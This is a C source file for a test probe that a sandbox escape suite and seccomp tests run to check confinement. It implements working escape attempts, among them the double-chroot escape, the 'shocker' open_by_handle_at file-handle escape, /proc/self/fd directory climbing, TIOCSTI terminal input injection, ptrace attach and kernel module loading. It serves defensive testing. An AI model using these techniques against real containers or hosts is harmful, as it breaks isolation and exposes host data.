/*
 * The attack probe of the escape suite (tests/security/) and the seccomp kernel tests
 * (tests/seccomp/kernel_test.ts). Built static by the tests (gcc -static) and cached under
 * .cache/. Each subcommand tries one thing and prints one line:
 *   "ok <detail>"          it worked
 *   "err <ENAME> <errno>"  the kernel refused
 * and exits 0, so a test can tell a refusal from a kill by seccomp (SIGSYS). Targets are
 * always objects the test made itself (a dummy process, a temp file, a scratch cgroup, a pty).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

static const char *ename(int e) {
  switch (e) {
#define E(x) case x: return #x;
    E(EPERM) E(ENOENT) E(ESRCH) E(EINTR) E(EIO) E(ENXIO) E(E2BIG) E(ENOEXEC) E(EBADF)
    E(ECHILD) E(EAGAIN) E(ENOMEM) E(EACCES) E(EFAULT) E(EBUSY) E(EEXIST) E(EXDEV) E(ENODEV)
    E(ENOTDIR) E(EISDIR) E(EINVAL) E(ENFILE) E(EMFILE) E(ENOTTY) E(EFBIG) E(ENOSPC) E(ESPIPE)
    E(EROFS) E(EMLINK) E(EPIPE) E(ERANGE) E(ENAMETOOLONG) E(ENOSYS) E(ENOTEMPTY) E(ELOOP)
    E(ENOTSUP) E(EAFNOSUPPORT) E(EPROTONOSUPPORT) E(ESOCKTNOSUPPORT) E(EADDRNOTAVAIL)
    E(ENOKEY) E(ESTALE) E(EOVERFLOW)
#undef E
    default: return "E?";
  }
}

static int result(long r, const char *detail) {
  if (r < 0) {
    int e = errno;
    printf("err %s %d\n", ename(e), e);
  } else {
    printf("ok %s\n", detail ? detail : "");
  }
  fflush(stdout);
  return 0;
}

static unsigned long long num(const char *s) { return strtoull(s, NULL, 0); }

static int read_file(const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return result(-1, NULL);
  char buf[256] = {0};
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n < 0) return result(-1, NULL);
  buf[strcspn(buf, "\n")] = 0;
  return result(0, buf);
}

/* seccomp-exec FILE ARGV...: install the BPF in FILE (after no_new_privs), then exec. */
static int seccomp_exec(int argc, char **argv) {
  if (argc < 4) return fprintf(stderr, "usage: seccomp-exec FILE ARGV...\n"), 2;
  static struct sock_filter insns[4096];
  int fd = open(argv[2], O_RDONLY);
  if (fd < 0) return perror("open"), 2;
  ssize_t n = read(fd, insns, sizeof insns);
  close(fd);
  if (n <= 0 || n % 8) return fprintf(stderr, "bad BPF file\n"), 2;
  struct sock_fprog prog = {.len = (unsigned short)(n / 8), .filter = insns};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) return perror("no_new_privs"), 2;
  if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog)) return perror("seccomp"), 2;
  execv(argv[3], argv + 3);
  perror("execv");
  return 2;
}

/* chroot-escape JAIL MARKER: the double-chroot trick. chroot into JAIL without entering it,
   climb ".." from the cwd left outside, chroot there, and look for MARKER. */
static int chroot_escape(const char *jail, const char *marker) {
  if (chroot(jail) < 0) return result(-1, NULL);
  for (int i = 0; i < 64; i++) chdir("..");
  if (chroot(".") < 0) return result(-1, NULL);
  return access(marker, F_OK) == 0 ? result(0, "escaped") : (errno = ENOENT, result(-1, NULL));
}

/* jail-then-escape OUTER INNER MARKER: confine ourselves with a plain chroot into OUTER, where
   MARKER is not visible, then escape it with the trick (jail INNER, relative to OUTER): the
   negative control of chroot-escape (a chroot-only jail does not hold, a pivot_root does). */
static int jail_then_escape(const char *outer, const char *inner, const char *marker) {
  if (chroot(outer) < 0 || chdir("/") < 0) return result(-1, NULL);
  if (access(marker, F_OK) == 0) return printf("bad: marker visible inside the jail\n"), 1;
  return chroot_escape(inner, marker);
}

/* shocker: open_by_handle_at with a handle (hex, from "handle" run on the host) through a
   mount fd inside the sandbox; reads the first line of what it opens. */
static int shocker(const char *mountpath, const char *hex) {
  struct {
    struct file_handle fh;
    unsigned char bytes[128];
  } h;
  size_t len = strlen(hex) / 2;
  if (len < 8 || len > sizeof h.bytes + 8) return fprintf(stderr, "bad handle\n"), 2;
  unsigned char raw[256];
  for (size_t i = 0; i < len; i++) sscanf(hex + 2 * i, "%2hhx", &raw[i]);
  memcpy(&h.fh, raw, len);
  int mfd = open(mountpath, O_RDONLY | O_CLOEXEC);
  if (mfd < 0) return result(-1, NULL);
  int fd = syscall(SYS_open_by_handle_at, mfd, &h.fh, O_RDONLY);
  if (fd < 0) return result(-1, NULL);
  char buf[128] = {0};
  read(fd, buf, sizeof buf - 1);
  buf[strcspn(buf, "\n")] = 0;
  return result(0, buf);
}

/* handle PATH: prints the file handle of PATH as hex (struct file_handle + f_handle). */
static int handle(const char *path) {
  struct {
    struct file_handle fh;
    unsigned char bytes[128];
  } h;
  h.fh.handle_bytes = 128;
  int mount_id;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &h.fh, &mount_id, 0) < 0) return result(-1, NULL);
  unsigned char *p = (unsigned char *)&h.fh;
  printf("ok ");
  for (size_t i = 0; i < sizeof(struct file_handle) + h.fh.handle_bytes; i++) printf("%02x", p[i]);
  printf("\n");
  return 0;
}

static int perf_open(void) {
  struct perf_event_attr a;
  memset(&a, 0, sizeof a);
  a.size = sizeof a;
  a.type = PERF_TYPE_SOFTWARE;
  a.config = PERF_COUNT_SW_TASK_CLOCK;
  a.exclude_kernel = 1;
  a.exclude_hv = 1;
  return result(syscall(SYS_perf_event_open, &a, 0, -1, -1, 0), "perf event");
}

static int bpf_map(void) {
  union bpf_attr a;
  memset(&a, 0, sizeof a);
  a.map_type = BPF_MAP_TYPE_ARRAY;
  a.key_size = 4;
  a.value_size = 4;
  a.max_entries = 1;
  return result(syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a), "bpf map");
}

static int ptrace_attach(pid_t pid) {
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return result(-1, NULL);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return result(0, "attached");
}

/* fd-climb REL: from every inherited directory fd, and from the cwd, climb ".." and try to
   read REL there; the /proc/self/fd and /proc/self/cwd tricks (leaked descriptors). */
static int fd_climb(const char *rel) {
  char path[4096];
  for (int fd = -1; fd < 64; fd++) {
    struct stat st;
    if (fd >= 0 && (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode))) continue;
    for (int up = 0; up < 8; up++) {
      int n = fd < 0 ? snprintf(path, sizeof path, "/proc/self/cwd")
                     : snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      for (int i = 0; i < up; i++) n += snprintf(path + n, sizeof path - n, "/..");
      snprintf(path + n, sizeof path - n, "/%s", rel);
      if (access(path, R_OK) == 0) return read_file(path);
    }
  }
  errno = ENOENT;
  return result(-1, NULL);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) return fprintf(stderr, "usage: probe COMMAND [ARGS]\n"), 2;
  const char *c = argv[1];
  const char *a2 = argc > 2 ? argv[2] : "", *a3 = argc > 3 ? argv[3] : "";
  if (!strcmp(c, "seccomp-exec")) return seccomp_exec(argc, argv);
  if (!strcmp(c, "syscall")) {
    long a[6] = {0};
    for (int i = 0; i < 6 && i + 3 < argc; i++) a[i] = (long)num(argv[i + 3]);
    return result(syscall((long)num(a2), a[0], a[1], a[2], a[3], a[4], a[5]), "syscall");
  }
  if (!strcmp(c, "read")) return read_file(a2);
  if (!strcmp(c, "write")) {
    int fd = open(a2, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) return result(-1, NULL);
    long r = write(fd, "pwned\n", 6);
    close(fd);
    return result(r, "written");
  }
  if (!strcmp(c, "mount")) return result(mount("none", a2, "tmpfs", 0, "size=64k"), "mounted");
  if (!strcmp(c, "umount")) return result(umount2(a2, MNT_DETACH), "unmounted");
  if (!strcmp(c, "pivot-root")) {
    if (chdir(a2) < 0) return result(-1, NULL);
    return result(syscall(SYS_pivot_root, ".", "."), "pivoted");
  }
  if (!strcmp(c, "chroot-escape")) return chroot_escape(a2, a3);
  if (!strcmp(c, "jail-then-escape")) return jail_then_escape(a2, a3, argc > 4 ? argv[4] : "");
  if (!strcmp(c, "pty-hold")) {
    /* a pty the test owns: print the slave's path, keep the master open until killed */
    int m = posix_openpt(O_RDWR | O_NOCTTY);
    if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0) return result(-1, NULL);
    result(0, ptsname(m));
    for (;;) pause();
  }
  if (!strcmp(c, "write-text")) {
    int fd = open(a2, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return result(-1, NULL);
    long r = write(fd, a3, strlen(a3));
    close(fd);
    return result(r, "written");
  }
  if (!strcmp(c, "handle")) return handle(a2);
  if (!strcmp(c, "shocker")) return shocker(a2, a3);
  if (!strcmp(c, "fd-climb")) return fd_climb(a2);
  if (!strcmp(c, "ptrace")) return ptrace_attach((pid_t)num(a2));
  if (!strcmp(c, "kill")) return result(kill((pid_t)num(a2), (int)num(a3)), "signalled");
  if (!strcmp(c, "finit-module")) {
    int fd = open(a2, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return result(-1, NULL);
    return result(syscall(SYS_finit_module, fd, "", 0), "module loaded");
  }
  if (!strcmp(c, "raw-socket")) return result(socket(AF_INET, SOCK_RAW, 1 /* ICMP */), "raw socket");
  if (!strcmp(c, "packet-socket")) return result(socket(AF_PACKET, SOCK_RAW, 0), "packet socket");
  if (!strcmp(c, "vsock")) return result(socket(AF_VSOCK, SOCK_STREAM, 0), "vsock");
  if (!strcmp(c, "keyctl"))
    return result(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1), "keyring");
  if (!strcmp(c, "bpf")) return bpf_map();
  if (!strcmp(c, "perf")) return perf_open();
  if (!strcmp(c, "tiocsti")) {
    char ch = a2[0] ? a2[0] : 'x';
    return result(ioctl((int)num(a3[0] ? a3 : "0"), TIOCSTI, &ch), "injected");
  }
  if (!strcmp(c, "sethostname")) return result(sethostname(a2, strlen(a2)), "renamed");
  if (!strcmp(c, "unshare-user")) return result(unshare(CLONE_NEWUSER), "new user namespace");
  if (!strcmp(c, "euid")) {
    printf("ok euid=%d\n", (int)geteuid());
    return 0;
  }
  if (!strcmp(c, "mknod")) {
    /* a character device node for /dev/zero (1,5), then read from it */
    if (mknod(a2, S_IFCHR | 0600, makedev(1, 5)) < 0) return result(-1, NULL);
    int fd = open(a2, O_RDONLY | O_CLOEXEC);
    unlink(a2);
    if (fd < 0) return result(-1, NULL);
    char b;
    long r = read(fd, &b, 1);
    close(fd);
    return result(r, "device read");
  }
  if (!strcmp(c, "join-cgroup")) {
    int fd = open(a2, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return result(-1, NULL);
    long r = write(fd, "0\n", 2);
    close(fd);
    return result(r, "moved");
  }
  if (!strcmp(c, "caps")) {
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    while (f && fgets(line, sizeof line, f)) {
      if (!strncmp(line, "CapEff:", 7) || !strncmp(line, "CapBnd:", 7) || !strncmp(line, "NoNewPrivs:", 11) ||
          !strncmp(line, "Seccomp:", 8))
        printf("%s", line);
    }
    return 0;
  }
  fprintf(stderr, "unknown command %s\n", c);
  return 2;
}
